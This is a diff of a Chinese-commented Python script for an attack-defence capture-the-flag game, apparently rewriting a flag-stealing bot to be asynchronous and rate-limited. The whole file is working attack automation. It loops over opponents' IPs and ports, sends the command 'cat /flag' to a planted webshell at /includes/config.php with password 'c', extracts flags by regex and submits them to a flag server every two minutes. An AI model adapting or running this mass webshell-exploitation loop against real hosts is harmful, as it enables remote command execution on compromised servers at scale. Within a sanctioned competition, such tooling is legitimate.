@@ -3,6 +3,21 @@ import requests  # 导入requests库用于发送HTTP请求
 import re        # 导入re库用于正则表达式匹配
 import time      # 导入time库用于设置定时任务
 import sys       # 导入sys库用于错误处理和退出
+import os        # 导入os库用于定位共享模块目录
+import asyncio   # 导入asyncio库用于在事件循环中调用阻塞的提交函数
+from concurrent.futures import ThreadPoolExecutor  # 提交线程池
+
+# 添加上级目录到Python路径，以便导入共享的awdlib模块
+sys.path.append(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+from awdlib.table import TargetTable, STATUS_CONN_FAIL  # 紧凑目标表
+from awdlib.probe import iter_probe  # TCP存活预筛
+from awdlib.health import HealthCache  # 跨轮次的端点健康缓存
+from awdlib.engine import AsyncHTTPEngine  # 异步HTTP引擎
+from awdlib.timeouts import AdaptiveTimeout  # 按目标耗时计算的自适应超时
+from awdlib.ratelimit import configure_limiter  # 全局和每主机令牌桶限速
+from awdlib.retry import RetryPolicy, RetryBudget  # 临时故障的重试策略
+from awdlib.submit import FlagSubmitter, TemplateAdapter, VerdictMatcher  # flag提交适配器与服务器响应判定
+from urllib.parse import urlsplit  # 用于取出flag服务器的主机名
 
 # 目标服务器配置 - 将从ip.txt文件读取IP地址
 url_template = "http://%s:"  # IP地址的URL模板
@@ -12,40 +27,41 @@ url1 = ""                   # 用于存储完整的攻击URL
 shell = "/includes/config.php?d=system"  # 目标网站上的webshell路径
 passwd = "c"                            # webshell的密码
 port = "80"                             # 目标网站的默认端口
-payload = {passwd: 'cat /flag'}         # 向webshell发送的命令，用于读取flag文件
+flag_command = 'cat /flag'              # 向webshell发送的命令，用于读取flag文件
+payload = {passwd: flag_command}        # 默认shell的POST数据
+
+# 可用的webshell列表 (路径, 密码)，每个目标优先尝试上一轮成功的shell
+shells = [(shell, passwd)]
 
-# 要尝试连接的端口列表
+# 要尝试连接的端口列表 (ip.txt中未写端口的目标使用这些端口，写了端口的以文件为准)
 target_ports = [8802, 8803, 8804]
+probe_enabled = True   # 每轮先做TCP存活预筛，端口不通的目标不再等待HTTP超时
+probe_timeout = 0.5    # 存活预筛连接超时 (秒)
+max_concurrency = 500  # 异步引擎同时在途的请求数
+per_host_limit = 16    # 同一主机同时在途的请求数 (也是每个 host:port 保留的空闲连接数)
+health_file = "health_cache.json"  # 端点健康缓存文件，连续失败的端点指数退避，重启后仍然有效
+request_timeout = 1      # 没有耗时记录的目标使用的请求超时 (秒)
+request_timeout_max = 5  # 自适应超时上限 (秒)，按每个目标最近耗时的p95计算
+timeout_file = "timeout_cache.json"  # 自适应超时的耗时记录文件
+flag_pattern = r'hello world(\w+)'  # 从shell回显中提取flag的正则，响应中匹配到后立即停止读取
+max_body_bytes = 64 * 1024  # 每个响应最多读取的字节数，防止超大页面拖慢整轮
+rate_limit = 2000      # 所有请求合计的速率上限 (次/秒)
+host_rate_limit = 50   # 每个队伍主机的速率上限 (次/秒)，慢队伍不会占满并发
+max_attempts = 2       # 建立连接失败、429/503 时每个shell最多尝试的次数；命令已发出后不重试，避免重复执行
+retry_budget = 100     # 每轮所有目标合计最多重试的次数，网络抖动时不会把整轮时间拖长
 
 # Flag服务器相关配置
 flag_server = "http://flag_server/flag_file.php?token=%s&flag=%s"  # 提交flag的服务器URL模板
 teamtoken = "team1"  # 团队标识token，用于向flag服务器验证身份
+flag_submit_rate = 500  # 向flag服务器提交的速率上限 (次/秒)，服务器返回限流时会自动退避重试
+submit_timeout = 5  # 单次提交的超时 (秒)，被限流或服务器出错时会一直重试到本轮结束
+submit_workers = 16  # 同时提交的线程数，共用到flag服务器的keep-alive连接
 
-def read_ip_file(file_path='ip.txt'):
-    """
-    从文件中读取IP地址列表
-    
-    参数:
-        file_path: IP地址文件路径，默认为'ip.txt'
-    
-    返回值:
-        包含IP地址的列表，如果文件不存在则返回空列表
-    """
-    try:
-        with open(file_path, 'r', encoding='utf-8') as f:
-            # 读取文件内容，去除空行和多余空格
-            ip_list = [line.strip() for line in f if line.strip()]
-        print(f"[+] 成功从 {file_path} 读取到 {len(ip_list)} 个IP地址")
-        return ip_list
-    except FileNotFoundError:
-        print(f"[-] 错误: 找不到文件 {file_path}")
-        return []
-    except Exception as e:
-        print(f"[-] 读取IP文件时出错: {str(e)}")
-        return []
-
+# 提交线程池和响应判定，所有轮次共用
+submit_executor = ThreadPoolExecutor(submit_workers)
+verdict_matcher = VerdictMatcher()
 
-def submit_flag(target, teamtoken, flag):
+def submit_flag(target, teamtoken, flag, deadline=None):
     """ 
     向flag服务器提交获取到的flag
     
@@ -53,76 +69,134 @@ def submit_flag(target, teamtoken, flag):
         target: 目标服务器的URL
         teamtoken: 团队标识token
         flag: 获取到的flag值
+        deadline: 本轮结束的时间戳，提交遇到临时故障时一直重试到该时间
     
     返回值:
         True: flag提交成功
-        False: flag提交失败
+        False: flag提交失败 (重复、无效、过期，或重试到截止时间仍被限流/出错)
     """
     url = flag_server % (teamtoken, flag)  # 构建完整的提交URL
-    pos = {}  # POST请求的数据（为空）
-    print "[+]Submitting flag:%s:%s" % (target, url)  # 打印提交信息
-    response = requests.post(url, data=pos)  # 发送POST请求提交flag
-    content = response.text  # 获取响应内容
-    print "[+]content:%s" % content  # 打印响应内容
-    if "success" in content:  # 检查响应中是否包含"success"表示成功
-        print "[+]Success!!"  # 打印成功信息
+    print("[+]Submitting flag:%s:%s" % (target, url))  # 打印提交信息
+    # 按URL模板发送空的POST请求提交flag，复用到flag服务器的连接；其他格式的平台换成 awdlib.submit 中的其他适配器
+    adapter = TemplateAdapter(flag_server, teamtoken, 'POST', timeout=submit_timeout, pool_size=submit_workers)
+    # 响应只判定一次类型，只有限流和服务器出错才重试
+    result = FlagSubmitter(adapter, deadline=deadline, matcher=verdict_matcher).submit(flag)
+    print("[+]content:%s" % result['response'])  # 打印响应内容
+    if result['success']:
+        print("[+]Success!!")  # 打印成功信息
         return True
     else:
-        print "[-]Failed"  # 打印失败信息
+        print("[-]Failed: %s" % result['verdict'])  # 打印失败的判定
         return False
 
 
-def flag():
+def flag(table, health, engine, timeouts, deadline):
     """ 
-    从ip.txt读取目标IP地址，尝试连接目标服务器上的webshell，获取flag并提交
-    同时记录可用的webshell和获取的flag信息到文件中
-    """
-    # 读取IP列表
-    ip_list = read_ip_file()
+    遍历目标表中的每个 IP×端口，尝试连接目标服务器上的webshell，获取flag并提交
+    同时记录可用的webshell和获取的flag信息到文件中，并把本轮结果写回目标表
     
-    # 如果没有读取到IP地址，退出函数
-    if not ip_list:
+    参数:
+        table: TargetTable 目标表，跨轮次复用
+        health: HealthCache 健康缓存，处于退避期的端口和shell本轮跳过
+        engine: AsyncHTTPEngine 异步引擎，跨轮次复用以保留到各队伍的keep-alive连接
+        timeouts: AdaptiveTimeout 自适应超时，每个目标按最近耗时决定等待多久
+        deadline: 本轮结束的时间戳，flag提交失败时一直重试到该时间
+    """
+    # 如果没有读取到任何目标，跳过本次扫描
+    if not len(table):
         print("[-] 没有有效的IP地址可处理，跳过本次扫描")
         return
     
+    table.reset_status()
+    # 本轮所有请求共用一个重试预算
+    retry = RetryPolicy(max_attempts, budget=RetryBudget(retry_budget), idempotent=False)
+    
     # 打开文件记录结果
     f=open("webshelllist.txt","w")  # 打开文件记录可用的webshell
     f1=open("firstround_flag.txt","w")  # 打开文件记录获取到的flag
     
-    # 遍历每个IP地址
-    for ip in ip_list:
-        # 遍历每个端口
-        for port in target_ports:
+    # 处于退避期的端口本轮不再探测，端口级退避保存在目标表中，一次筛选完成
+    candidates = table.select(ready_at=time.time())
+    
+    # 按探测完成顺序处理目标，端口不通的目标直接记为连接失败
+    if probe_enabled:
+        indices = iter_probe(candidates, key=table.target, timeout=probe_timeout)
+    else:
+        indices = ((index, True) for index in candidates)
+    
+    async def attack(item):
+        index, alive = item
+        ip, port = table.target(index)
+        port_key = table.target_str(index)
+        if not alive:
+            table.record(index, STATUS_CONN_FAIL)
+            table.set_backoff(index, health.record(port_key, False))
+            print(f"[-] {ip}:{port} 端口不可连接，跳过")
+            return
+        if probe_enabled:
+            table.set_backoff(index, health.record(port_key, True))
+        
+        # 上一轮成功的shell排在最前面，其余按配置顺序
+        last_good = table.last_shell[index]
+        order = list(range(len(shells)))
+        if 0 <= last_good < len(shells):
+            order.remove(last_good)
+            order.insert(0, last_good)
+        
+        for shell_index in order:
+            shell_path, shell_passwd = shells[shell_index]
             # 构建完整的webshell URL
-            url1 = url_template % ip + str(port) + shell
+            url1 = url_template % ip + str(port) + shell_path
+            shell_key = port_key + shell_path
+            if not health.should_try(shell_key):
+                continue  # 该shell连续失败，处于退避期
+            
+            print(f"[+] 尝试连接: {url1}")
+            # 尝试向webshell发送命令获取flag
+            res = await retry.call_async(engine.request, 'POST', ip, port, shell_path, {shell_passwd: flag_command},
+                                         timeout=timeouts.get(port_key), max_bytes=max_body_bytes,
+                                         stop_pattern=flag_pattern)
+            timeouts.observe(port_key, res.elapsed, res.error)
+            if res.error:
+                table.record(index, STATUS_CONN_FAIL)
+                health.record(shell_key, False)
+                print(url1 + " connect shell failed: " + res.error)  # 连接shell失败
+                continue
+            table.record(index, res.status, res.elapsed)
             
-            try:
-                print "------------------------------------"
-                print f"[+] 尝试连接: {url1}"
-                # 尝试向webshell发送命令获取flag
-                res=requests.post(url1,payload,timeout=1)  # 发送POST请求，超时时间1秒
+            # 检查请求是否成功
+            if res.status == requests.codes.ok:
+                text = res.text
+                table.record(index, res.status, shell_index=shell_index)
+                health.record(shell_key, True, res.elapsed)
+                print(url1 + " connect shell sucess,flag is "+text)
+                # 记录shell和获取的flag到文件
+                print(url1+" connect shell sucess,flag is "+text, file=f1)  # 写入flag信息
+                print(url1+","+shell_passwd, file=f)  # 写入webshell信息，格式为URL,密码
                 
-                # 检查请求是否成功
-                if res.status_code == requests.codes.ok:
-                    print url1 + " connect shell sucess,flag is "+res.text
-                    # 记录shell和获取的flag到文件
-                    print >>f1,url1+" connect shell sucess,flag is "+res.text  # 写入flag信息
-                    print >>f,url1+","+passwd  # 写入webshell信息，格式为URL,密码
-                    
-                    # 使用正则表达式从响应中提取flag
-                    if re.match(r'hello world(\w+)', res.text):  # 匹配以"hello world"开头后跟字母数字的模式
-                        flag_value = re.match(r'hello world(\w+)', res.text).group(1)  # 提取flag部分
-                        submit_flag(url1, teamtoken, flag_value)  # 提交flag
-                    else:
-                        print "[-]Can not get flag"  # 无法获取flag
+                # 使用正则表达式从响应中提取flag
+                if re.match(flag_pattern, text):  # 匹配以"hello world"开头后跟字母数字的模式
+                    flag_value = re.match(flag_pattern, text).group(1)  # 提取flag部分
+                    # 提交函数是阻塞的，放到提交线程池中执行，不影响其他目标的请求
+                    await asyncio.get_running_loop().run_in_executor(submit_executor, submit_flag, url1, teamtoken, flag_value, deadline)
                 else:
-                    print "shell 404"  # shell不存在或访问失败
-            except Exception as e:
-                print url1 + " connect shell failed: " + str(e)  # 连接shell失败
+                    print("[-]Can not get flag")  # 无法获取flag
+                return
+            else:
+                health.record(shell_key, False)
+                print(url1 + " shell 404")  # shell不存在或访问失败
+    
+    # 所有目标在同一个事件循环中并发处理
+    engine.run(indices, attack)
     
     # 关闭文件
     f.close()
     f1.close()
+    
+    # 保存健康缓存，下一轮和重启后继续生效
+    health.save()
+    timeouts.save()
+    print(f"[+] 当前处于退避期的端点: {health.backoff_count()} 个")
 
 
 def timer(n):
@@ -133,14 +207,34 @@ def timer(n):
         n: 执行间隔，单位为秒
     """
     print("[+] 启动定时任务，每%d秒执行一次扫描" % n)
+    table = None
+    table_mtime = None
+    health = HealthCache(health_file)
+    limiter = configure_limiter(rate_limit, host_rate=host_rate_limit)
+    limiter.set_host_rate(urlsplit(flag_server % ('', '')).hostname, flag_submit_rate, flag_submit_rate)
+    timeouts = AdaptiveTimeout(timeout_file, default=request_timeout, max_timeout=request_timeout_max)
+    engine = AsyncHTTPEngine(max_concurrency, per_host_limit, timeout=request_timeout)  # 空闲连接在轮次之间保留
     while True:  # 无限循环
         print("\n[+] 开始新的扫描轮次")
-        flag()  # 执行flag函数
+        # 目标表跨轮次复用，只有ip.txt被修改时才重新展开
+        try:
+            mtime = os.path.getmtime('ip.txt')
+        except OSError:
+            mtime = None
+        if table is None or mtime != table_mtime:
+            table = TargetTable.from_file('ip.txt', target_ports)
+            table.load_backoff(health)  # 上次运行留下的端口退避状态
+            table_mtime = mtime
+            print(f"[+] 目标表已加载: {len(table)} 个目标")
+        deadline = time.time() + n  # 本轮结束的时间，也是flag提交重试的截止时间
+        flag(table, health, engine, timeouts, deadline)  # 执行flag函数
         # 注释掉重复执行的部分，因为我们已经在单个flag()调用中处理了所有IP和端口
         # flag()
         # flag()
         print("[+] 当前轮次扫描完成，等待下一轮...")
-        time.sleep(n)  # 等待指定的时间间隔
+        # 只等到本轮结束: flag服务器不可用时提交会一直重试到截止时间，再睡满 n 秒会跳过一整轮
+        time.sleep(max(0, deadline - time.time()))
 
 # 启动定时器，每120秒（2分钟）执行一次flag函数
-timer(120)
\ No newline at end of file
+if __name__ == "__main__":
+    timer(120)